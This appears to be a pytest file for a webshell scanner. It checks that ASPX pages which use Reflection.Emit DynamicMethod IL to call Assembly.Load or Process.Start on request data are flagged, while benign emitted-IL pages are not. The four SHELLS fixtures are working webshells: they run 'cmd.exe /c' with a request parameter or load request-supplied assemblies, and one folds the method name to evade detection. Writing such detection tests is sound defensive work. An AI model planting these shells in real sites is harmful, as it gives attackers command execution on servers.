"""Methods built at run time with Reflection.Emit: a DynamicMethod whose IL calls `Assembly.Load`
(or `Process.Start`) runs what it is handed as if the page called that method itself. Shells
written from the documented API (DynamicMethod, ILGenerator.Emit/EmitCall) beside genuine code
that emits IL for its own purposes (docs/detection/webshell-code.md, "Methods built at run time")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, run

IMPORTS = ("System.Reflection", "System.Reflection.Emit")


def page(body: str) -> str:
    return cs_page(body, imports=IMPORTS)


SHELLS = [
    (
        "emit-var.aspx",
        # The method to call kept in a variable, its name folded from pieces.
        page(
            'byte[] body = Convert.FromBase64String(Request.Form["d"]);\n'
            'DynamicMethod dm = new DynamicMethod("run", typeof(object), new Type[] { typeof(byte[]) });\n'
            "ILGenerator il = dm.GetILGenerator();\n"
            'MethodInfo loader = typeof(Assembly).GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) });\n'
            "il.Emit(OpCodes.Ldarg_0);\n"
            "il.EmitCall(OpCodes.Call, loader, null);\n"
            "il.Emit(OpCodes.Ret);\n"
            "object asm = dm.Invoke(null, new object[] { body });"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["form field 'd'", "base64-decodes it", "called from IL the code emits", "Assembly.Load"],
    ),
    (
        "emit-inline.aspx",
        # The MethodInfo written inside the Emit call, as an `Emit(OpCodes.Call, m)`.
        page(
            'var dm = new DynamicMethod("x", typeof(void), new Type[] { typeof(string), typeof(string) });\n'
            "var il = dm.GetILGenerator();\n"
            "il.Emit(OpCodes.Ldarg_0);\n"
            "il.Emit(OpCodes.Ldarg_1);\n"
            'il.Emit(OpCodes.Call, typeof(System.Diagnostics.Process).GetMethod("Start", new Type[] { typeof(string), typeof(string) }));\n'
            "il.Emit(OpCodes.Pop);\n"
            "il.Emit(OpCodes.Ret);\n"
            'dm.Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] });'
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called from IL the code emits", "Process.Start"],
    ),
    (
        "emit-delegate.aspx",
        # The built method taken as a typed delegate and called like a function.
        page(
            'var dm = new DynamicMethod("l", typeof(Assembly), new Type[] { typeof(byte[]) });\n'
            "var il = dm.GetILGenerator();\n"
            "il.Emit(OpCodes.Ldarg_0);\n"
            'il.Emit(OpCodes.Call, typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }));\n'
            "il.Emit(OpCodes.Ret);\n"
            "var load = (Func<byte[], Assembly>)dm.CreateDelegate(typeof(Func<byte[], Assembly>));\n"
            "var stage = load(Request.BinaryRead(Request.TotalBytes));\n"
            'stage.CreateInstance("Run").Equals(Context);'
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["the request body", "called from IL the code emits", "Assembly.Load"],
    ),
    (
        "emit-ldstr.aspx",
        # The command line loaded by the IL itself (Ldstr of request data), the method run bare.
        page(
            'var dm = new DynamicMethod("x", null, null);\n'
            "var il = dm.GetILGenerator();\n"
            'il.Emit(OpCodes.Ldstr, "cmd.exe");\n'
            'il.Emit(OpCodes.Ldstr, "/c " + Request["c"]);\n'
            'il.Emit(OpCodes.Call, typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) }));\n'
            "il.Emit(OpCodes.Pop);\n"
            "il.Emit(OpCodes.Ret);\n"
            "dm.Invoke(null, null);"
        ),
        "EXH-WS-CODE-PROCESS",
        ["request parameter 'c'", "called from IL the code emits", "Process.Start"],
    ),
]

BENIGN = [
    (
        "fastcopy.aspx",
        # A page building a fast string joiner once, fed the visitor's search words.
        page(
            'var dm = new DynamicMethod("join", typeof(string), new Type[] { typeof(string), typeof(string) });\n'
            "var il = dm.GetILGenerator();\n"
            "il.Emit(OpCodes.Ldarg_0);\n"
            "il.Emit(OpCodes.Ldarg_1);\n"
            'il.EmitCall(OpCodes.Call, typeof(string).GetMethod("Concat", new Type[] { typeof(string), typeof(string) }), null);\n'
            "il.Emit(OpCodes.Ret);\n"
            'lit.Text = Server.HtmlEncode((string)dm.Invoke(null, new object[] { Request["q"], " results" }));'
        ),
    ),
    (
        "ldstr.aspx",
        # IL that loads the visitor's text as a string for the harmless method it calls.
        page(
            'var dm = new DynamicMethod("up", typeof(string), null);\n'
            "var il = dm.GetILGenerator();\n"
            'il.Emit(OpCodes.Ldstr, Request["q"]);\n'
            'il.EmitCall(OpCodes.Callvirt, typeof(string).GetMethod("ToUpperInvariant", Type.EmptyTypes), null);\n'
            "il.Emit(OpCodes.Ret);\n"
            "lit.Text = Server.HtmlEncode((string)dm.Invoke(null, null));"
        ),
    ),
    (
        "plugin.aspx",
        # IL that loads the site's own plug-in assembly from bin, with no request data handed over.
        page(
            'var dm = new DynamicMethod("load", typeof(Assembly), new Type[] { typeof(string) });\n'
            "var il = dm.GetILGenerator();\n"
            "il.Emit(OpCodes.Ldarg_0);\n"
            'il.EmitCall(OpCodes.Call, typeof(Assembly).GetMethod("LoadFrom", new Type[] { typeof(string) }), null);\n'
            "il.Emit(OpCodes.Ret);\n"
            'var a = (Assembly)dm.Invoke(null, new object[] { Server.MapPath("~/bin/Reports.dll") });\n'
            "lit.Text = a.GetName().Name;"
        ),
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_emitted_call_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_emitted_il(name: str, code: str) -> None:
    assert_benign(name, code)


def test_emitted_name_is_shown_folded() -> None:
    report = run(SHELLS[0][0], SHELLS[0][1])
    assert any("Load" in s for s in report.folded), report.folded


def test_only_a_dynamic_method_invoke_runs_the_il() -> None:
    # The same IL built but never run: no call reaches Assembly.Load.
    code = SHELLS[0][1].replace("object asm = dm.Invoke(null, new object[] { body });", "Response.Write(body.Length);")
    report = run("unused.aspx", code)
    assert "EXH-WS-CODE-ASSEMBLY" not in [c.rule_id for c in report.capabilities]
